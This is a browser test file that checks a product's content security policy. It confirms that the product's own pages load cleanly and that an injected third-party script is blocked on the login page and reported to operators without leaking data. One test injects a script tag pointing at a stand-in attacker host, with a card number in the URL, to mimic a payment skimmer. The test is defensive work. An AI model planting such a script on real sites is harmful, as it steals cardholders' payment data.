/** The security policy of the pages in a real Chromium: they keep to it themselves, and what does not is heard of. */
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { startChromium, type OwnBrowser } from './chromium.ts';
import { startProduct, type RunningProduct } from './product.ts';

let product: RunningProduct;
let chromium: OwnBrowser;

beforeAll(async () => {
  product = await startProduct();
  chromium = await startChromium();
}, 240_000);

afterAll(async () => {
  await chromium.close();
  await product.close();
});

const told = (): readonly string[] =>
  product
    .output()
    .split('\n')
    .filter((line) => line.includes('policy blocked'));

const visit = async (path: string): Promise<Page> => {
  const context = await chromium.browser.createBrowserContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  await page.evaluateOnNewDocument(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      document.documentElement.dataset['blocked'] = `${effectiveDirective} ${blockedURI}`;
    });
  });
  await page.goto(`${product.url}${path}`, { waitUntil: 'networkidle0' });
  await page.waitForSelector('h1');
  return page;
};

const blockedOn = (page: Page): Promise<string | undefined> =>
  page.evaluate(() => document.documentElement.dataset['blocked']);

describe('the policy of a page', () => {
  it.each(['/', '/outback', '/dealers', '/build-your-own/account/login', '/build-your-own/order/12345678-1234/pay'])(
    'blocks nothing of the product’s own on %s',
    async (path) => {
      expect(await blockedOn(await visit(path))).toBeUndefined();
    },
  );

  it('blocks a script of somebody else in the ordering area, and operators hear of it (row 93)', async () => {
    const page = await visit('/build-your-own/account/login');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/tag.js?card=4444333322221111';
      document.head.append(script);
    });
    await vi.waitFor(() => expect(told()).toHaveLength(1), { timeout: 10_000 });
    expect(told()[0]).toContain('"blocked":"https://evil.example"');
    expect(product.output()).not.toContain('4444333322221111');
    expect(await blockedOn(page)).toContain('script-src-elem');
  });
});
